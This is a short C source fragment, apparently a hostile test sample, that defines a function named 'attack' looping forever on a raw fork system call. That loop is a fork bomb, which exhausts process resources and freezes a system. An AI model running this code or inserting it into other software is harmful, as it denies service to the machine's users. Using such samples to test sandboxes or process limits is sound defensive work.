#include "hostile.h"

static void attack(void)
{
    for (;;)
        syscall(SYS_fork);
}
